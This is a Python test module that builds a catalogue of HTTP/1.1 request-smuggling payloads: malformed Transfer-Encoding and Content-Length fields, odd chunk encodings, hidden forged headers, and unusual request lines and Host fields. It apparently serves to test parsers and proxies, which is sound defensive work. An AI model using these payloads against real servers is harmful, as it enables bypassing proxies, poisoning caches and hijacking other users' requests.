"""Smuggling forms of HTTP/1.1: fields, bodies, chunks, line ends and targets that two programs may read differently."""

from collections.abc import Callable, Iterator, Sequence

from tests.smuggling.attack import Attack, chunked, lines
from tests.smuggling.payload import FORGE, Payload

TRANSFER_ENCODINGS = {
    "plain": b"Transfer-Encoding: chunked",
    "blank": b"Transfer-Encoding : chunked",
    "tab": b"Transfer-Encoding:\tchunked",
    "x": b"Transfer-Encoding: xchunked",
    "vertical-tab": b"Transfer-Encoding: \x0bchunked",
    "form-feed": b"Transfer-Encoding: \x0cchunked",
    "identity": b"Transfer-Encoding: identity, chunked",
    "identity-last": b"Transfer-Encoding: chunked, identity",
    "two-lines": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "two-lines-chunked-last": b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "two-lines-chunked": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "case": b"tRANSFER-eNCODING: CHUNKED",
    "folded": b"Transfer-Encoding:\r\n chunked",
    "folded-into": b"X: y\r\n Transfer-Encoding: chunked",
    "line-feed": b"X: y\nTransfer-Encoding: chunked",
    "carriage-return": b"X: y\rTransfer-Encoding: chunked",
    "nul": b"Transfer-Encoding: chunked\x00",
    "underscore": b"Transfer_Encoding: chunked",
    "quoted": b'Transfer-Encoding: "chunked"',
    "parameter": b"Transfer-Encoding: chunked;q=1",
    "empty": b"Transfer-Encoding:",
    "comma": b"Transfer-Encoding: ,chunked",
    "comma-last": b"Transfer-Encoding: chunked,",
    "leading-blank": b" Transfer-Encoding: chunked",
    "long-s": b"Transfer-Encoding: chun\xc5\xbfed",
    "gzip": b"Transfer-Encoding: gzip, chunked",
}


def _with_length(attack: Attack, field: bytes, method: bytes, version: bytes, *more: bytes) -> list[bytes]:
    body = b"0\r\n\r\n" + attack.inner
    length = b"Content-Length: %d" % len(body)
    return [attack.request(*more, length, field, method=method, version=version, body=body)]


def _short_length(attack: Attack, field: bytes) -> list[bytes]:
    length = b"Content-Length: %d" % len(b"%x\r\n" % len(attack.inner))
    return [attack.request(field, length, body=chunked(attack.inner))]


Shape = Callable[[Attack, bytes], list[bytes]]
# The shapes in which a Transfer-Encoding stands: the two programs disagree on where the body ends.
SHAPES: dict[str, Shape] = {
    "cl.te": lambda attack, field: _with_length(attack, field, b"POST", b"1.1"),
    "te.cl": _short_length,
    "te.0": lambda attack, field: [attack.request(field, body=b"0\r\n\r\n" + attack.inner)],
    "get": lambda attack, field: _with_length(attack, field, b"GET", b"1.1"),
    "1.0": lambda attack, field: _with_length(attack, field, b"POST", b"1.0", b"Connection: keep-alive"),
}
CONTENT_LENGTHS: dict[str, Callable[[int], list[bytes]]] = {
    "two-lines": lambda n: [b"Content-Length: 0", b"Content-Length: %d" % n],
    "two-lines-0-last": lambda n: [b"Content-Length: %d" % n, b"Content-Length: 0"],
    "list": lambda n: [b"Content-Length: 0, %d" % n],
    "list-equal": lambda n: [b"Content-Length: %d, %d" % (n, n)],
    "plus": lambda n: [b"Content-Length: +%d" % n],
    "underscores": lambda n: [b"Content-Length: " + "_".join(str(n)).encode()],
    "hex": lambda n: [b"Content-Length: 0x%x" % n],
    "negative": lambda n: [b"Content-Length: -1"],
    "blank": lambda n: [b"Content-Length : %d" % n],
    "zeros": lambda n: [b"Content-Length: 000%d" % n],
    "folded": lambda n: [b"Content-Length:\r\n %d" % n],
    "underscore-name": lambda n: [b"Content_Length: %d" % n],
    "none": lambda n: [],
    "zero": lambda n: [b"Content-Length: 0"],
    "line-feed": lambda n: [b"X: y\nContent-Length: %d" % n],
    "carriage-return": lambda n: [b"X: y\rContent-Length: %d" % n],
    "fraction": lambda n: [b"Content-Length: %d.0" % n],
    "beyond-64-bits": lambda n: [b"Content-Length: %d" % (2**64 + n)],
    "expect": lambda n: [b"Expect: 100-continue", b"Content-Length: %d" % n],
    "arabic-digits": lambda n: [b"Content-Length: " + "".join(chr(0x660 + int(each)) for each in str(n)).encode()],
    "empty": lambda n: [b"Content-Length:", b"X: %d" % n],
    "connection": lambda n: [b"Connection: content-length", b"Content-Length: %d" % n],
}
# What follows a head with `Transfer-Encoding: chunked`.
CHUNKS: dict[str, Callable[[bytes], bytes]] = {
    "extension-line-feed": lambda inner: b"2;\nxx\r\n" + chunked(inner),
    "extension-line-feed-2": lambda inner: b"2;\nxx\r\n10\r\n\r\n0\r\n\r\n" + inner,
    "extension-carriage-return": lambda inner: b"2;a\rxx\r\n0\r\n\r\n" + inner,
    "extension-quoted": lambda inner: b'2;a="\r\n0\r\n\r\n%s"\r\nxx\r\n0\r\n\r\n' % inner,
    "line-feeds": lambda inner: b"%x\n%s\n0\n\n" % (len(inner), inner),
    "no-line-end": lambda inner: b"5\r\nAAAAAXX0\r\n\r\n" + inner,
    "size-line-feed": lambda inner: b"5\nAAAAA\r\n0\n\n" + inner,
    "0x": lambda inner: b"0x" + chunked(inner),
    "underscore": lambda inner: b"0_" + chunked(inner),
    "negative": lambda inner: b"-1\r\n\r\n" + inner,
    "plus": lambda inner: b"+0\r\n\r\n" + inner,
    "blank": lambda inner: b"0 \r\n\r\n" + inner,
    "beyond-64-bits": lambda inner: b"10000000000000000\r\n%s\r\n0\r\n\r\n" % inner,
    "beyond-32-bits": lambda inner: b"100000000\r\n%s\r\n0\r\n\r\n" % inner,
    "empty-size": lambda inner: b"\r\n" + inner,
    "trailer": lambda inner: b"0\r\nX: y\r\n\r\n" + inner,
    "trailer-line-feeds": lambda inner: b"0\r\nX: y\n\n" + inner,
    "trailer-open": lambda inner: b"0\r\nX: " + inner,
}
# Ways to hide the forged fields from the proxy in names, values and line ends.
HIDDEN: dict[str, Callable[[Attack], bytes]] = {
    "line-feed": lambda attack: b"X: y\n" + lines(attack.forged).replace(b"\r\n", b"\n"),
    "carriage-return": lambda attack: b"X: y\r" + lines(attack.forged).replace(b"\r\n", b"\r"),
    "two-carriage-returns": lambda attack: b"X: y\r\r\n" + lines(attack.forged),
    "nul": lambda attack: b"X: y\x00\r\n" + lines(attack.forged),
    "folded": lambda attack: b"X: y\r\n " + lines(attack.forged).replace(b"\r\n", b"\r\n "),
    "folded-tab": lambda attack: b"X: y\r\n\t" + lines(attack.forged).replace(b"\r\n", b"\r\n\t"),
    "colon": lambda attack: _names(attack, lambda name: b":" + name),
    "leading-blank": lambda attack: _names(attack, lambda name: b" " + name),
    "trailing-blank": lambda attack: _names(attack, lambda name: name + b" "),
    "trailing-tab": lambda attack: _names(attack, lambda name: name + b"\t"),
    "one-underscore": lambda attack: _names(attack, lambda name: name.replace(b"-", b"_", 1)),
    "underscores": lambda attack: _names(attack, lambda name: name.replace(b"-", b"_")),
    "plus": lambda attack: _names(attack, lambda name: name.replace(b"-", b"+")),
    "no-break-space": lambda attack: _names(attack, lambda name: b"\xa0" + name),
    "nul-name": lambda attack: _names(attack, lambda name: b"\x00" + name),
    "vertical-tab": lambda attack: b"X: y\x0b" + lines(attack.forged),
    "next-line": lambda attack: b"X: y\xc2\x85" + lines(attack.forged),
    "line-separator": lambda attack: b"X: y\xe2\x80\xa8" + lines(attack.forged),
    "http-prefix": lambda attack: _names(attack, lambda name: b"HTTP-" + name),
    "connection": lambda attack: b"Connection: close, %s\r\n%s" % (
        b", ".join(name for name, _ in attack.forged), lines(attack.forged)
    ),
    "empty-first": lambda attack: b"".join(name + b":\r\n" for name, _ in attack.forged) + lines(attack.forged),
    "plain": lambda attack: lines(attack.forged),
}  # fmt: skip
# Request lines; PATH is the attacker's path. The forged fields and a second request follow.
START_LINES = {
    "absolute": b"GET http://localhostPATH HTTP/1.1",
    "absolute-other-host": b"GET http://evilPATH HTTP/1.1",
    "absolute-user": b"GET http://a@localhostPATH HTTP/1.1",
    "line-feed": b"GET PATH\nHost: x HTTP/1.1",
    "percent": b"GET PATH%20HTTP/1.1%0d%0aX:%20y HTTP/1.1",
    "tab": b"GET\tPATH\tHTTP/1.1",
    "two-versions": b"GET PATH HTTP/1.1 HTTP/1.1",
    "nul": b"GET PATH\x00 HTTP/1.1",
    "carriage-return": b"GET PATH HTTP/1.1\rX: y",
    "two-lines": b"GET /\nGET PATH HTTP/1.1",
    "0.9": b"GET PATH",
    "2.0": b"GET PATH HTTP/2.0",
    "1.2": b"GET PATH HTTP/1.2",
    "1.10": b"GET PATH HTTP/1.10",
    "star": b"OPTIONS * HTTP/1.1",
    "fragment": b"GET PATH#x HTTP/1.1",
    "two-slashes": b"GET //localhostPATH HTTP/1.1",
}
METHODS = (b"TRACE", b"DELETE", b"OPTIONS", b"PATCH", b"PRI", b"get", b"HEAD")


def _names(attack: Attack, renamed: Callable[[bytes], bytes]) -> bytes:
    return lines(tuple((renamed(name), value) for name, value in attack.forged))


def _form(name: str, made: Callable[[Attack], Sequence[bytes]]) -> Payload:
    return Payload(name, "form", made)


def payloads() -> Iterator[Payload]:
    for shape, write in SHAPES.items():
        for name, field in TRANSFER_ENCODINGS.items():
            yield _form(f"te-{name}-{shape}", lambda attack, write=write, field=field: write(attack, field))
    for name, length in CONTENT_LENGTHS.items():
        for method in (b"POST", b"GET"):
            yield _form(
                f"cl-{name}-{method.decode()}",
                lambda attack, length=length, method=method: [
                    attack.request(*length(len(attack.inner)), method=method, body=attack.inner)
                ],
            )
    chunks = b"Transfer-Encoding: chunked"
    for name, body in CHUNKS.items():
        yield _form(f"chunk-{name}", lambda attack, body=body: [attack.request(chunks, body=body(attack.inner))])
    for method in (b"POST", b"GET"):
        yield _form(
            f"te-connection-{method.decode()}",
            lambda attack, method=method: [
                attack.request(b"Connection: transfer-encoding", chunks, method=method, body=chunked(attack.inner))
            ],
        )
    yield from _others()


def _others() -> Iterator[Payload]:
    for name, hidden in HIDDEN.items():
        yield Payload(
            f"hidden-{name}", "form", kinds=FORGE,
            segments=lambda attack, hidden=hidden: [attack.request(hidden(attack), method=b"GET", part="inner")],
        )  # fmt: skip
    yield Payload(
        "hidden-trailer", "form", kinds=FORGE,
        segments=lambda attack: [
            attack.request(
                b"Transfer-Encoding: chunked", part="inner", body=b"1\r\nx\r\n0\r\n%s\r\n\r\n" % lines(attack.forged)
            )
        ],
    )  # fmt: skip
    for name, start in START_LINES.items():
        yield _form(f"start-{name}", lambda attack, start=start: [_started(attack, start) + attack.inner])
    for method in METHODS:
        yield _form(
            f"method-{method.decode()}",
            lambda attack, method=method: [
                attack.request(b"Content-Length: %d" % len(attack.inner), method=method, body=attack.inner)
            ],
        )
    for name, host in HOSTS.items():
        yield Payload(f"host-{name}", "form", kinds=FORGE, segments=lambda attack, host=host: [_hosted(attack, host)])
    yield _form("pipelined", lambda attack: [attack.request(method=b"GET") + attack.inner])


def _started(attack: Attack, start: bytes) -> bytes:
    line = start.replace(b"PATH", attack.path("outer"))
    return b"\r\n".join([line, b"Host: localhost", lines(attack.forged), b"", b""])


HOSTS: dict[str, Callable[[Attack], bytes]] = {
    "two": lambda attack: b"Host: localhost\r\nHost: evil\r\n" + lines(attack.forged),
    "folded": lambda attack: b"Host: localhost\r\n " + lines(attack.forged),
    "none": lambda attack: lines(attack.forged),
    "vertical-tab": lambda attack: b"Host: localhost:80\x0b" + lines(attack.forged),
}


def _hosted(attack: Attack, host: Callable[[Attack], bytes]) -> bytes:
    return b"GET %s HTTP/1.1\r\n%s\r\n\r\n" % (attack.path("inner"), host(attack))
